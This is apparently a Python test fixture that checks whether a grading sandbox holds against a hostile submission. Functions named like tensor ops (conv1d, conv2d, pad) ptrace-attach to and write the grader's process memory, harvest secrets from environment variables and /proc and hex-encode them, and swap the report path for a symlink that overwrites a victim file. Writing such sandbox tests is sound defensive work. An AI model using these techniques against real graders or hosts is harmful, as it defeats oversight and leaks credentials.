# ATTACKS on the grader's own process (graded through the CLI, as root, so that what is
# attacked is a throwaway `grade` process and never the test runner). The grader's processes
# are found by the token in their command line (the submission path holds it).
#  conv1d: ptrace-attach to the grader (and detach), write to /proc/<grader>/mem (the same
#          bytes back, so no harm if it works), signal it with signal 0, signal the host's
#          pid 1 with signal 0 (only where the child is in the host's PID namespace).
#  conv2d: carry out secrets: os.environ, /proc/self/environ, /proc/self/cmdline, sys.argv,
#          sys.orig_argv, /proc/<grader>/environ and cmdline, hex-encoded.
#  pad:    find the report path (-o) in the grader's command line, plant a file next to it and
#          replace it by a symlink to a victim file, so that the grader writes over the victim.
# MUST: no PWNED; the secrets (env and command line) absent raw and hex-encoded; no planted
# file; the victim unchanged; the grade exits 0 with a report.
import ctypes
import os
import sys

TOKEN = "__TOKEN__"
HOST_PID_NS = "__HOST_PID_NS__"
VICTIM = "__VICTIM__"


class Found(Exception):
    """Carries what the attack found; no invalid-argument probe expects this class."""


def _graders():
    found = []
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        if int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if TOKEN.encode() in f.read():
                    found.append(int(pid))
        except OSError:
            pass
    return sorted(found)


def conv1d(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    won = []
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    graders = _graders()
    if graders:
        won.append(f"sees grader pids {graders}")
    for pid in graders[:1]:
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH, then detach at once
            os.waitpid(pid, 0)
            libc.ptrace(17, pid, None, None)
            won.append(f"ptrace-attached {pid}")
        try:
            with open(f"/proc/{pid}/maps") as maps:
                start = int(next(line for line in maps if " r" in line).split("-")[0], 16)
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
                mem.seek(start)
                same = mem.read(16)
                mem.seek(start)
                if mem.write(same) == 16:
                    won.append(f"wrote /proc/{pid}/mem")
        except (OSError, StopIteration):
            pass
        try:
            os.kill(pid, 0)
            won.append(f"may signal {pid}")
        except OSError:
            pass
    if os.readlink("/proc/self/ns/pid") == HOST_PID_NS:
        won.append("host PID namespace")
        try:
            os.kill(1, 0)
            won.append("may signal the host's pid 1")
        except OSError:
            pass
    raise Found(("PWN" "ED: " + "; ".join(won)) if won else "blocked")


def conv2d(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    words = ("SECRET", "TOKEN", "KEY", "PASS", "S3CR3T", ".JSON")
    loot = [f"{k}={v}" for k, v in os.environ.items()] + list(sys.argv) + list(getattr(sys, "orig_argv", []))
    for path in ["/proc/self/environ", "/proc/self/cmdline"] + \
            [f"/proc/{pid}/{what}" for pid in _graders() for what in ("environ", "cmdline")]:
        try:
            with open(path, "rb") as f:
                loot += f.read().decode(errors="replace").split("\0")
        except OSError:
            pass
    keep = " | ".join(dict.fromkeys(item for item in loot if any(w in item.upper() for w in words)))[:150]
    raise Found(f"found: {keep} hex: {keep.encode().hex()}")


def pad(input, pad, mode="constant", value=0.0):
    won = []
    words = list(sys.argv)
    for pid in _graders():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                words += f.read().decode(errors="replace").split("\0")
        except OSError:
            pass
    for index, word in enumerate(words[:-1]):
        if word in ("-o", "--output"):
            report = words[index + 1]
            try:
                with open(os.path.join(os.path.dirname(report), "planted-next-to-report.txt"), "w") as f:
                    f.write("planted")
                won.append("planted a file next to the report")
            except OSError:
                pass
            try:
                if os.path.lexists(report):
                    os.unlink(report)
                os.symlink(VICTIM, report)
                won.append("made the report path a symlink")
            except OSError:
                pass
            break
    raise Found(("PWN" "ED: " + "; ".join(won)) if won else "blocked")
